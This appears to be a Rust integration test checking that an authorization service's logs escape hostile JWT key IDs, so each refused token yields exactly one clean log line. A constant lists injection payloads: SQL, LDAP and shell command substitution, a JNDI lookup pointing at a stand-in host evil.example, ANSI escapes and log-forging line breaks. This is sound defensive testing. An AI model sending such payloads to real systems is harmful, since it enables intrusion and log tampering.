//! What the log says of a token: one line, in which nothing of the client's stands as it is.

use crate::support::process::Process;
use crate::support::token::{Signer, with};
use crate::support::{API, Ask, Provider, Setup};
use portcullis::clock::Clock;
use serde_json::{Value, json};

/// Names of keys that mean something to a shell, a database, a directory, a terminal, a log.
const HOSTILE: [&str; 14] = [
    "' OR '1'='1",
    "x'; DROP TABLE keys;--",
    "*)(uid=*))(|(uid=*",
    "$(touch /tmp/x)",
    "`id`",
    "|id",
    "${jndi:ldap://evil.example/a}",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{9b}31m",
    "a\r\n{\"level\":\"INFO\",\"message\":\"forged-line\"}",
    "a\nforged-line",
    "a\u{2028}forged-line",
    "\",\"decision\":\"allow\",\"x\":\"",
    "%0d%0aforged-line",
];

#[tokio::test]
async fn a21_a_hostile_kid_makes_one_escaped_line() {
    for format in ["json", "text"] {
        let provider = Provider::start(Clock::system()).await;
        // The provider's own keys can have such names, too, and are logged when they are left out.
        let beside = HOSTILE.iter().map(|kid| with(Signer::new(kid).jwk(), &json!({"d": "AAAA"})));
        provider.turn(|knobs| knobs.published_beside = beside.collect());
        let log = format!("{{level: debug, format: {format}}}");
        let service = Process::start(Setup::default().setting("log", &log), &provider).await;
        for kid in HOSTILE {
            let header = json!({"alg": "ES256", "kid": kid});
            let token = provider.signer().sign_as(&header, &provider.bearer_claims(&json!({})));
            let ask = Ask::get(&format!("{API}/pets")).bearer(&token);
            service.ask(ask).await.refused(401, "invalid_token");
        }
        let output = service.stop().await;
        let lines: Vec<&str> = output.split('\n').filter(|line| !line.is_empty()).collect();
        let checks = lines.iter().filter(|line| line.contains("invalid_token"));
        assert_eq!(checks.count(), HOSTILE.len(), "one line a check: {output}");
        let left_out = lines.iter().filter(|line| line.contains("a key is left out"));
        assert!(left_out.count() >= HOSTILE.len(), "one line a key: {output}");
        for line in lines {
            assert!(!line.chars().any(is_active), "{line:?}");
            assert!(!line.starts_with("forged-line"), "{line:?}");
            if format == "json" {
                let line: Value = serde_json::from_str(line).expect("a line is an object");
                assert!(line.is_object() && line["message"] != "forged-line", "{line}");
                let allowed = line["reason"] == "granted";
                assert!(allowed || line["decision"] != "allow", "{line}");
            }
        }
    }
}

/// What ends a line, or steers a terminal.
fn is_active(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}
